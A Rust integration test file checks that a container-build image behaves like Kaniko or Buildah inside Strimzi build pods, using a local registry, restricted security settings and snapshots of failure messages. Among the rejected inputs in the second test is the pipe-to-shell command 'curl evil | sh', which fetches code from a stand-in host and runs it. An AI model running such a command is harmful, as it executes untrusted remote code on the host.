//! Launched by an operator that takes us for Kaniko or Buildah: the very arguments, mounts and variables of Strimzi's build pod
//! (`KafkaConnectBuild.java`), in our image, under the restricted security context.

use std::process::Command;

use serde_json::json;

use crate::container::build_image;
use crate::support::artifact_server::{Answer, ArtifactServer};
use crate::support::dockerfile::Dockerfile;
use crate::support::maven_repository::MavenRepository;
use crate::support::real::{PASSWORD, RealRegistry, Setup, Store, USER, output, set_mode, text};
use crate::support::{Run, Workplace, noise, sha512, zip_of};

/// A variable of pods whose termination message cannot be written.
const UNWRITABLE: &str = "TEST=unwritable";

/// What a build pod finds: a registry with a password and its own authority, a base image in it, a Dockerfile, artifacts.
struct Cluster {
    place: Workplace,
    store: Store,
    registry: RealRegistry,
    agent: String,
    _artifacts: ArtifactServer,
}

impl Cluster {
    fn new() -> Self {
        let (place, store) = (Workplace::new(), Store::new());
        let registry = RealRegistry::start(Setup::Password);
        let agent = build_image(&place, &store);
        let base = store.make_base(&[]);
        let to = format!("docker://localhost:{}/kafka:base", registry.port);
        let credentials = format!("{USER}:{PASSWORD}");
        output(&mut store.buildah(&[
            "push",
            "-q",
            "--tls-verify=false",
            "--creds",
            &credentials,
            &base,
            &to,
        ]));
        let jar = zip_of(&[("noise", &noise(100_000, 21))]);
        let artifacts = ArtifactServer::start(&[("/a.jar", Answer::Content(jar.clone()))]);
        let repository = MavenRepository::start(crate::maven::repository());
        let mut dockerfile = Dockerfile::new(&format!("localhost:{}/kafka:base", registry.port));
        dockerfile.plugin("one");
        dockerfile.artifact("one", "jar", &artifacts.url("/a.jar"), &sha512(&jar), None);
        dockerfile.maven("one", ["t", "case-scopes-root", "1"], &repository.url());
        place.write("dockerfile/Dockerfile", dockerfile.finish("quay.io/strimzi/maven-builder:latest"));
        let auths = json!({ "auths": { format!("localhost:{}", registry.port): { "username": USER, "password": PASSWORD } } });
        place.write("secret/config.json", auths.to_string());
        for name in ["certs", "mnt"] {
            std::fs::create_dir_all(place.path(name)).unwrap();
            std::fs::copy(registry.authority(), place.path(&format!("{name}/ca.crt"))).unwrap();
        }
        for directory in ["", "dockerfile", "secret", "certs", "mnt"] {
            set_mode(&place.path(directory), 0o755);
        }
        set_mode(&place.path("secret/config.json"), 0o444);
        Self { place, store, registry, agent, _artifacts: artifacts }
    }

    fn image(&self) -> String {
        format!("localhost:{}/team/connect:1", self.registry.port)
    }

    /// Runs a pod's container, and gives what it left as its termination message.
    fn pod(&self, user: &str, secret_at: &str, environment: &[&str], arguments: &[&str]) -> (Run, String) {
        let log = self.place.write("termination-log", "");
        // As the kubelet makes it.
        set_mode(&log, if environment.contains(&UNWRITABLE) { 0o444 } else { 0o666 });
        let mount = |from: &str, to: &str, how: &str| {
            format!("--volume={}:{to}{how}", self.place.path(from).display())
        };
        let mounts = [
            mount("dockerfile", "/dockerfile", ":ro"),
            mount("secret", secret_at, ":ro"),
            mount("mnt", "/mnt/ca", ":ro"),
            mount("certs", "/mnt/certs", ":ro"),
            mount("termination-log", "/dev/termination-log", ""),
        ];
        let mut command = vec![
            "--user",
            user,
            "--read-only",
            "--read-only-tmpfs=false",
            "--tmpfs",
            "/var/tmp:rw,size=64m,mode=1777",
            "--cap-drop=ALL",
            "--security-opt=no-new-privileges",
        ];
        command.extend(mounts.iter().map(String::as_str));
        for variable in environment {
            command.extend(["--env", variable]);
        }
        command.push(&self.agent);
        command.extend(arguments);
        let run = Run::new(self.store.podman_run(&command).output().unwrap(), &self.place.path(""));
        (run, self.place.read("termination-log"))
    }

    /// The digest that skopeo sees.
    fn digest(&self) -> String {
        let credentials = format!("{USER}:{PASSWORD}");
        let mut skopeo = Command::new("skopeo");
        skopeo.args(["inspect", "--tls-verify=false", "--creds", &credentials, "--format", "{{.Digest}}"]);
        text(skopeo.arg(format!("docker://{}", self.image()))).trim().to_owned()
    }
}

/// The script that the operator gives to Buildah.
fn script(image: &str, build_options: &str, push_options: &str) -> String {
    format!(
        "buildah build --file=/dockerfile/Dockerfile --tag={image} --storage-driver=vfs {build_options}\n\
         buildah push --storage-driver=vfs --digestfile=/tmp/digest {push_options} {image}\n\
         echo \"$(buildah images --storage-driver=vfs --format '{{{{.Name}}}}' {image})@$(cat /tmp/digest)\" > /dev/termination-log"
    )
}

#[test]
#[ignore = "the static binary, buildah, podman, runc, docker-registry, openssl, htpasswd, skopeo"]
fn the_pods_of_strimzi_run_in_our_image() {
    let cluster = Cluster::new();
    let image = cluster.image();
    let name = image.rsplit_once(':').unwrap().0;
    let certificate = format!("--registry-certificate=localhost:{}=/mnt/ca/ca.crt", cluster.registry.port);
    let destination = format!("--destination={image}");
    let kaniko = [
        "--dockerfile=/dockerfile/Dockerfile",
        "--image-name-with-digest-file=/dev/termination-log",
        &destination,
        &certificate,
        "--reproducible",
    ];
    let script = script(&image, "--cert-dir=/mnt/certs", "--cert-dir=/mnt/certs --retry=1");
    let buildah = ["/bin/bash", "-ec", &script];
    let auth_file = "REGISTRY_AUTH_FILE=/build/.docker/config.json";
    let mut digests = Vec::new();
    for user in ["1000650000:0", "1001:0"] {
        for (secret_at, environment, arguments) in [
            ("/kaniko/.docker", &[][..], &kaniko[..]),
            ("/build/.docker", &[auth_file], &buildah),
            // 0.49.0 mounted it there for Buildah too, and set no variable.
            ("/kaniko/.docker", &[], &buildah),
        ] {
            let (run, message) = cluster.pod(user, secret_at, environment, arguments);
            run.succeeded();
            let digest = cluster.digest();
            assert_eq!(message, format!("{name}@{digest}"));
            digests.push(digest);
        }
    }
    // Without a message the operator would take nothing, or what is left of another build, for the image.
    for arguments in [&kaniko[..], &buildah] {
        let (run, message) = cluster.pod("1001:0", "/build/.docker", &[auth_file, UNWRITABLE], arguments);
        assert_eq!((run.code, message.as_str()), (2, ""), "{}", run.stderr);
        assert!(run.stderr.contains("error: cannot write `/dev/termination-log`"), "{}", run.stderr);
    }
    digests.dedup();
    assert_eq!(digests.len(), 1, "the same input, the same image: {digests:?}");
}

#[test]
#[ignore = "the static binary, buildah, podman, runc, docker-registry, openssl, htpasswd"]
fn a_pod_that_fails_says_why_in_its_last_words() {
    let cluster = Cluster::new();
    let image = cluster.image();
    let trusting = script(&image, "--tls-verify=false", "--tls-verify=false");
    let buildah = ["/bin/bash", "-ec", &trusting];
    let auth_file = "REGISTRY_AUTH_FILE=/build/.docker/config.json";
    let said = |(run, message): (Run, String)| {
        let message = crate::support::without_ports(&message);
        assert!(
            run.stderr.contains(message.lines().next().unwrap_or("nothing").split('`').next().unwrap()),
            "{}",
            run.stderr
        );
        format!("exit {}\n{message}", run.code)
    };
    let mut rows = Vec::new();
    // A certificate that nobody vouches for.
    let plain = script(&image, "", "");
    rows.push(said(cluster.pod("1001:0", "/build/.docker", &[auth_file], &["/bin/bash", "-ec", &plain])));
    // Nobody.
    rows.push(said(cluster.pod("1001:0", "/nowhere", &[], &buildah)));
    // A secret of another form.
    cluster.place.write("secret/config.json", "not json");
    rows.push(said(cluster.pod("1001:0", "/build/.docker", &[auth_file], &buildah)));
    // A Dockerfile of another form.
    let dockerfile = cluster.place.read("dockerfile/Dockerfile");
    cluster.place.write("dockerfile/Dockerfile", dockerfile.replace("USER 1001", "USER 0"));
    rows.push(said(cluster.pod("1001:0", "/nowhere", &[], &buildah)));
    // Words that are neither Kaniko's nor Buildah's.
    rows.push(said(cluster.pod("1001:0", "/nowhere", &[], &["--frobnicate"])).replace(", `", ",\n`"));
    rows.push(said(cluster.pod("1001:0", "/nowhere", &[], &["/bin/bash", "-ec", "curl evil | sh"])));
    insta::assert_snapshot!(rows.join("\n\n"));
}
